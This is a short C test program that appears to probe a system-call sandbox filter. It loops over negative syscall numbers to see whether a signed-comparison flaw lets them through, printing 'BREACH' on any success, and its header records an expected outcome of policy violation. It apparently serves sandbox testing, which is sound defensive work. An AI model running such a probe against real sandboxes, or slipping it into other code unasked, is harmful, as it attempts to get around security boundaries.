// attack: makes calls of negative numbers, which a signed comparison in a filter lets pass
// outcome: policy_violation
#include <stdio.h>
#include <unistd.h>

int main(void) {
    for (long number = -1; number > -64; --number) {
        if (syscall(number, 2, 1, 0) >= 0) dprintf(1, "BREACH call %ld works\n", number);
    }
    dprintf(1, "contained\n");
    return 0;
}
